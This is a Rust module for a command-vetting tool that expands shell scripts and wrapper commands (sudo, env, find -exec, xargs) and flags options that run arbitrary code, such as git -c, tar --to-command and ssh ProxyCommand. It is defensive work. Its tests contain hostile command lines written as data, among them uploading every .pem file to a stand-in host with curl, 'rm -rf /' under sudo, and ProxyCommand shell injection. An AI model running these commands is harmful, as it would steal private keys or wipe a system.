//! What an exec would really run.
//!
//! [`analyze_exec`] turns one argv into every program invocation it leads
//! to: shell scripts (`bash -lc "…"`) are split, wrappers (`env`, `sudo`,
//! `timeout`, `xargs`, `find -exec`, …) yield both themselves and the
//! command they run, and options that make a program run arbitrary code
//! (`git -c`, `tar --to-command`, `rsync -e`, `ssh -o ProxyCommand`,
//! `python -c`, `awk 'BEGIN{system(…)}'`) are recorded as problems. Rules
//! are then checked against every invocation; an invocation reached through
//! a wrapper, or an analysis with problems, never gets an `allow` rule's
//! pre-approval.

use super::command_rules::basename;
use super::shell::split_script;

/// One program the exec would run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Invocation {
    /// Normalised argv (e.g. `git -C dir push` → `git push`).
    pub argv: Vec<String>,
    /// stdin is a pipe from another command.
    pub piped: bool,
    /// Reached through a wrapper (`sudo X`, `find -exec X`): judged by its
    /// rules, never pre-approved.
    pub wrapped: bool,
}

/// Everything an exec leads to.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Analysis {
    pub invocations: Vec<Invocation>,
    /// Why warden does not fully understand the exec (empty: it does).
    pub problems: Vec<String>,
}

impl Analysis {
    pub fn fully_understood(&self) -> bool {
        self.problems.is_empty()
    }

    /// Whether any invocation came through a wrapper.
    pub fn has_wrapper(&self) -> bool {
        self.invocations.iter().any(|i| i.wrapped)
    }
}

const MAX_DEPTH: usize = 8;

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish"];

/// Analyse an exec's argv.
pub fn analyze_exec(argv: &[String]) -> Analysis {
    let mut out = Analysis::default();
    visit(argv, false, false, 0, &mut out);
    out
}

fn visit(argv: &[String], piped: bool, wrapped: bool, depth: usize, out: &mut Analysis) {
    if argv.is_empty() {
        return;
    }
    if depth > MAX_DEPTH {
        out.problems.push("commands nested too deeply".into());
        return;
    }
    let prog = basename(&argv[0]);
    let strs: Vec<&str> = argv.iter().map(String::as_str).collect();

    if SHELLS.contains(&prog) {
        if let Some(script) = shell_c_script(&strs[1..]) {
            let split = split_script(script);
            out.problems.extend(split.problems);
            for cmd in split.commands {
                visit(&cmd.argv, cmd.piped || piped, wrapped, depth + 1, out);
            }
            return;
        }
        // `bash script.sh` or `bash` reading stdin: judged as itself.
        push(out, argv.to_vec(), piped, wrapped);
        return;
    }

    if prog == "git" {
        let (normalized, problems) = normalize_git(&strs);
        out.problems.extend(problems);
        push(out, normalized, piped, wrapped);
        return;
    }

    // Wrappers: record the wrapper, then what it runs.
    if let Some(inner) = wrapped_command(prog, &strs, out) {
        push(out, argv.to_vec(), piped, wrapped);
        match inner {
            Inner::Argv(start) => {
                if start < argv.len() {
                    visit(&argv[start..], piped, true, depth + 1, out);
                }
            }
            Inner::Script(script) => {
                let split = split_script(&script);
                out.problems.extend(split.problems);
                for cmd in split.commands {
                    visit(&cmd.argv, cmd.piped || piped, true, depth + 1, out);
                }
            }
            Inner::Many(list) => {
                for inner in list {
                    visit(&inner, piped, true, depth + 1, out);
                }
            }
            Inner::None => {}
        }
        return;
    }

    code_execution_problems(prog, &strs, out);
    push(out, argv.to_vec(), piped, wrapped);
}

fn push(out: &mut Analysis, argv: Vec<String>, piped: bool, wrapped: bool) {
    out.invocations.push(Invocation {
        argv,
        piped,
        wrapped,
    });
}

/// The script of `sh -c SCRIPT` / `bash -lc SCRIPT` / `bash -e -c SCRIPT`.
fn shell_c_script<'a>(args: &[&'a str]) -> Option<&'a str> {
    let mut i = 0;
    while i < args.len() {
        let a = args[i];
        if a == "--" {
            return None;
        }
        if let Some(flags) = a.strip_prefix('-') {
            if flags.starts_with('-') {
                // long options like --login, --norc; `--rcfile F` takes a value.
                if matches!(a, "--rcfile" | "--init-file") {
                    i += 1;
                }
                i += 1;
                continue;
            }
            if flags.contains('c') {
                return args.get(i + 1).copied();
            }
            if flags.contains('o') || flags.contains('O') {
                i += 1; // `-o pipefail`
            }
            i += 1;
            continue;
        }
        if a.starts_with('+') {
            i += 1;
            continue;
        }
        return None;
    }
    None
}

enum Inner {
    /// The inner argv starts at this index.
    Argv(usize),
    /// A shell string the wrapper will run.
    Script(String),
    /// Several commands (`find -exec A ; -exec B ;`).
    Many(Vec<Vec<String>>),
    /// The wrapper runs nothing we can see (e.g. `sudo -i`).
    None,
}

/// Skip options of a wrapper. `with_value` lists short/long options that
/// take a separate value. Returns the index of the first operand.
fn skip_options(args: &[&str], start: usize, with_value: &[&str]) -> usize {
    let mut i = start;
    while i < args.len() {
        let a = args[i];
        if a == "--" {
            return i + 1;
        }
        if !a.starts_with('-') || a == "-" {
            return i;
        }
        if with_value.contains(&a) {
            i += 2;
        } else {
            i += 1;
        }
    }
    i
}

/// If `prog` is a wrapper, where its inner command is.
fn wrapped_command(prog: &str, a: &[&str], out: &mut Analysis) -> Option<Inner> {
    let inner = match prog {
        "env" => {
            let mut i = 1;
            while i < a.len() {
                let w = a[i];
                if w == "--" {
                    i += 1;
                    break;
                }
                if matches!(w, "-u" | "-C" | "-P" | "--unset" | "--chdir") {
                    i += 2;
                } else if matches!(w, "-S" | "--split-string") {
                    out.problems
                        .push("`env -S` splits a string into a command".into());
                    return Some(Inner::Script(a.get(i + 1..).unwrap_or(&[]).join(" ")));
                } else if let Some(s) = w.strip_prefix("--split-string=") {
                    out.problems
                        .push("`env -S` splits a string into a command".into());
                    return Some(Inner::Script(s.to_owned()));
                } else if w.starts_with('-') {
                    i += 1;
                } else if let Some((name, _)) = w.split_once('=') {
                    if !name.is_empty() {
                        out.problems.push(format!(
                            "`env {name}=…` changes the environment of the command it runs"
                        ));
                    }
                    i += 1;
                } else {
                    break;
                }
            }
            Inner::Argv(i)
        }
        "sudo" => {
            if a.iter()
                .any(|w| matches!(*w, "-s" | "-i" | "--shell" | "--login"))
            {
                out.problems.push("`sudo` starts a shell".into());
            }
            Inner::Argv(skip_options(
                a,
                1,
                &[
                    "-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "-R",
                ],
            ))
        }
        "doas" => Inner::Argv(skip_options(a, 1, &["-u", "-C"])),
        "su" | "runuser" => {
            let pos = a.iter().position(|w| matches!(*w, "-c" | "--command"));
            out.problems.push(format!("`{prog}` switches user"));
            match pos.and_then(|p| a.get(p + 1)) {
                Some(script) => Inner::Script((*script).to_owned()),
                None => Inner::None,
            }
        }
        "nice" => Inner::Argv(skip_options(a, 1, &["-n", "--adjustment"])),
        "nohup" | "setsid" | "unbuffer" | "fakeroot" | "busybox" | "catchsegv" => {
            Inner::Argv(skip_options(a, 1, &[]))
        }
        "time" => Inner::Argv(skip_options(a, 1, &["-f", "-o", "--format", "--output"])),
        "command" | "builtin" => {
            if a.iter().any(|w| matches!(*w, "-v" | "-V")) {
                Inner::None
            } else {
                Inner::Argv(skip_options(a, 1, &[]))
            }
        }
        "timeout" => {
            let i = skip_options(a, 1, &["-s", "-k", "--signal", "--kill-after"]);
            Inner::Argv(i + 1) // the duration
        }
        "stdbuf" => Inner::Argv(skip_options(a, 1, &["-i", "-o", "-e"])),
        "ionice" => Inner::Argv(skip_options(a, 1, &["-c", "-n", "-p", "-P", "-u"])),
        "taskset" => {
            let i = skip_options(a, 1, &[]);
            Inner::Argv(i + 1) // the mask
        }
        "chrt" => {
            let i = skip_options(a, 1, &["-T", "-P", "-D"]);
            Inner::Argv(i + 1) // the priority
        }
        "chroot" => {
            let i = skip_options(a, 1, &["--userspec", "--groups"]);
            Inner::Argv(i + 1) // the new root
        }
        "unshare" | "nsenter" => Inner::Argv(skip_options(a, 1, &["-t", "--target", "-S", "-G"])),
        "strace" | "ltrace" => Inner::Argv(skip_options(
            a,
            1,
            &[
                "-o", "-e", "-p", "-s", "-u", "-E", "-a", "-b", "-I", "-P", "-S", "-X",
            ],
        )),
        "flock" => {
            if let Some(p) = a.iter().position(|w| matches!(*w, "-c" | "--command")) {
                return Some(match a.get(p + 1) {
                    Some(s) => Inner::Script((*s).to_owned()),
                    None => Inner::None,
                });
            }
            let i = skip_options(a, 1, &["-w", "--timeout", "-E", "--conflict-exit-code"]);
            Inner::Argv(i + 1) // the lock file
        }
        "watch" => {
            let i = skip_options(a, 1, &["-n", "--interval", "-d", "-q"]);
            Inner::Script(a.get(i..).unwrap_or(&[]).join(" "))
        }
        "script" => match a.iter().position(|w| matches!(*w, "-c" | "--command")) {
            Some(p) => match a.get(p + 1) {
                Some(s) => Inner::Script((*s).to_owned()),
                None => Inner::None,
            },
            None => Inner::None,
        },
        "xargs" => {
            out.problems
                .push("`xargs` appends arguments read from its input".into());
            let i = skip_options(
                a,
                1,
                &[
                    "-a",
                    "-d",
                    "-E",
                    "-e",
                    "-I",
                    "-i",
                    "-L",
                    "-l",
                    "-n",
                    "-P",
                    "-s",
                    "--arg-file",
                    "--delimiter",
                    "--max-args",
                    "--max-procs",
                ],
            );
            if i >= a.len() {
                // Default command is `echo`.
                Inner::None
            } else {
                Inner::Argv(i)
            }
        }
        "parallel" => {
            out.problems
                .push("`parallel` builds commands from its input".into());
            let i = skip_options(a, 1, &["-j", "--jobs", "-S", "--sshlogin"]);
            Inner::Argv(i)
        }
        "find" => {
            let mut inners = Vec::new();
            let mut i = 1;
            while i < a.len() {
                if matches!(a[i], "-exec" | "-execdir" | "-ok" | "-okdir") {
                    let start = i + 1;
                    let mut j = start;
                    while j < a.len() && a[j] != ";" && a[j] != "+" {
                        j += 1;
                    }
                    inners.push(a[start..j].iter().map(|s| (*s).to_owned()).collect());
                    i = j + 1;
                } else {
                    i += 1;
                }
            }
            if inners.is_empty() {
                return None;
            }
            out.problems
                .push("`find -exec` runs a command on every file found".into());
            Inner::Many(inners)
        }
        _ => return None,
    };
    Some(inner)
}

/// `git` with its global options removed, so rules see `git push …` for
/// `git -C dir --no-pager push …`. Options that let git run arbitrary
/// programs are problems.
fn normalize_git(a: &[&str]) -> (Vec<String>, Vec<String>) {
    let mut problems = Vec::new();
    let mut out = vec![a[0].to_owned()];
    let mut i = 1;
    while i < a.len() {
        let w = a[i];
        match w {
            "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--super-prefix" => i += 2,
            "-c" | "--config-env" => {
                problems.push(format!(
                    "`git {w} {}` can make git run arbitrary programs",
                    a.get(i + 1).unwrap_or(&"")
                ));
                i += 2;
            }
            _ if w.starts_with("--exec-path") => {
                problems.push("`git --exec-path` runs programs from another directory".into());
                i += 1;
            }
            _ if w.starts_with("--git-dir=")
                || w.starts_with("--work-tree=")
                || w.starts_with("--namespace=")
                || w.starts_with("--config-env=") =>
            {
                if w.starts_with("--config-env=") {
                    problems.push("`git --config-env` can make git run arbitrary programs".into());
                }
                i += 1;
            }
            _ if w.starts_with('-') => i += 1,
            _ => break,
        }
    }
    for w in &a[i..] {
        if w.starts_with("--upload-pack")
            || w.starts_with("--receive-pack")
            || *w == "-u"
            || w.starts_with("--exec=")
            || w.starts_with("ext::")
            || w.starts_with("--config=")
        {
            problems.push(format!("`git … {w}` can make git run arbitrary programs"));
        }
        out.push((*w).to_owned());
    }
    (out, problems)
}

/// Options of ordinary programs that run arbitrary code.
fn code_execution_problems(prog: &str, a: &[&str], out: &mut Analysis) {
    let has = |flags: &[&str]| {
        a[1..].iter().any(|w| {
            flags
                .iter()
                .any(|f| w == f || w.starts_with(&format!("{f}=")))
        })
    };
    let interpreter = prog.starts_with("python")
        || prog.starts_with("pypy")
        || matches!(prog, "node" | "nodejs" | "deno" | "bun")
        || matches!(
            prog,
            "perl" | "ruby" | "php" | "lua" | "Rscript" | "tclsh" | "osascript"
        );
    if interpreter {
        let inline = a[1..].iter().any(|w| {
            matches!(*w, "-c" | "-e" | "-E" | "-r" | "-p" | "--eval" | "--print")
                || (w.starts_with('-')
                    && !w.starts_with("--")
                    && (w.ends_with('c') || w.ends_with('e'))
                    && w.len() <= 4)
        });
        if inline {
            out.problems
                .push(format!("`{prog}` runs inline code warden cannot inspect"));
        }
        return;
    }
    let awk_runs = |p: &&&str| {
        p.contains("system")
            || p.contains("| getline")
            || p.contains("|&")
            || p.contains("print |")
            || p.contains("printf |")
    };
    let ssh_local_command = a[1..].iter().any(|w| {
        let l = w.to_ascii_lowercase();
        l.contains("proxycommand") || l.contains("localcommand")
    });
    let problem = match prog {
        "awk" | "gawk" | "mawk" | "nawk"
            if a[1..]
                .iter()
                .find(|w| !w.starts_with('-'))
                .is_some_and(|p| awk_runs(&p)) =>
        {
            format!("`{prog}` program runs shell commands")
        }
        "sed" | "gsed"
            if a[1..]
                .iter()
                .any(|w| !w.starts_with('-') && sed_runs_commands(w)) =>
        {
            "`sed` script runs shell commands".to_owned()
        }
        "tar" | "bsdtar" | "gtar"
            if has(&[
                "--to-command",
                "--checkpoint-action",
                "--use-compress-program",
                "-I",
                "--info-script",
                "--new-volume-script",
                "-F",
                "--rsh-command",
            ]) =>
        {
            "`tar` option runs a command".to_owned()
        }
        "rsync" if has(&["-e", "--rsh", "--rsync-path"]) => {
            "`rsync -e` runs a remote shell command".to_owned()
        }
        "ssh" | "scp" | "sftp" if ssh_local_command || has(&["-S", "-F"]) => {
            format!("`{prog}` option runs a local command")
        }
        "make" | "gmake"
            if a[1..]
                .iter()
                .any(|w| w.starts_with("SHELL=") || *w == "--eval") =>
        {
            "`make` with a replaced SHELL".to_owned()
        }
        _ => return,
    };
    out.problems.push(problem);
}

/// GNU sed's `e` command or `s///e` flag execute shell commands.
fn sed_runs_commands(script: &str) -> bool {
    script.split([';', '\n']).any(|cmd| {
        let c = cmd.trim();
        c == "e" || c.starts_with("e ") || (c.starts_with('s') && s_command_has_e_flag(c))
    })
}

fn s_command_has_e_flag(cmd: &str) -> bool {
    let mut chars = cmd.chars();
    chars.next(); // 's'
    let Some(delim) = chars.next() else {
        return false;
    };
    let mut seen = 0;
    let mut escaped = false;
    let mut flags = String::new();
    for c in chars {
        if seen == 2 {
            flags.push(c);
            continue;
        }
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == delim {
            seen += 1;
        }
    }
    flags.contains('e')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn analyze(words: &[&str]) -> Analysis {
        analyze_exec(&words.iter().map(|s| s.to_string()).collect::<Vec<_>>())
    }

    fn programs(a: &Analysis) -> Vec<String> {
        a.invocations.iter().map(|i| i.argv.join(" ")).collect()
    }

    #[test]
    fn find_exec_is_judged_by_what_it_runs() {
        let a = analyze(&[
            "find",
            ".",
            "-name",
            "*.pem",
            "-exec",
            "curl",
            "-T",
            "{}",
            "https://x.example",
            ";",
        ]);
        assert!(programs(&a).contains(&"curl -T {} https://x.example".to_owned()));
        assert!(
            a.invocations
                .iter()
                .find(|i| i.argv[0] == "curl")
                .unwrap()
                .wrapped
        );
        assert!(!a.fully_understood());
    }

    #[test]
    fn shell_scripts_are_split() {
        let a = analyze(&["bash", "-lc", "cargo fmt && cargo test"]);
        assert_eq!(programs(&a), vec!["cargo fmt", "cargo test"]);
        assert!(a.fully_understood());
        assert!(!a.has_wrapper());
    }

    #[test]
    fn nested_wrappers() {
        let a = analyze(&[
            "sudo", "-u", "root", "env", "FOO=1", "timeout", "5", "sh", "-c", "rm -rf /",
        ]);
        let p = programs(&a);
        assert!(p.contains(&"rm -rf /".to_owned()), "{p:?}");
        assert!(p.iter().any(|x| x.starts_with("sudo")));
        assert!(p.iter().any(|x| x.starts_with("env")));
    }

    #[test]
    fn git_global_options_are_normalized() {
        let a = analyze(&["git", "-C", "repo", "--no-pager", "push", "--force"]);
        assert_eq!(programs(&a), vec!["git push --force"]);
        assert!(a.fully_understood());
        let b = analyze(&["git", "-c", "core.sshCommand=sh -c evil", "fetch"]);
        assert!(!b.fully_understood());
    }

    #[test]
    fn inline_code_is_not_understood() {
        for argv in [
            &["python3", "-c", "print(1)"][..],
            &["node", "-e", "1"],
            &["perl", "-e", "1"],
            &["awk", "BEGIN{system(\"id\")}"],
            &["tar", "--to-command=sh", "-xf", "a.tar"],
            &["rsync", "-e", "sh -c evil", "a", "b:"],
            &["ssh", "-o", "ProxyCommand=sh -c evil", "host"],
            &["sed", "s/a/b/e", "f"],
            &["xargs", "rm"],
        ] {
            assert!(!analyze(argv).fully_understood(), "{argv:?}");
        }
        for argv in [
            &["python3", "-m", "pytest"][..],
            &["awk", "{print $1}", "f"],
            &["sed", "-n", "s/a/b/p", "f"],
            &["tar", "-xzf", "a.tgz"],
        ] {
            assert!(analyze(argv).fully_understood(), "{argv:?}");
        }
    }

    #[test]
    fn xargs_runs_its_command() {
        let a = analyze(&["xargs", "-n1", "curl", "-F", "f=@x"]);
        assert!(programs(&a).contains(&"curl -F f=@x".to_owned()));
    }
}
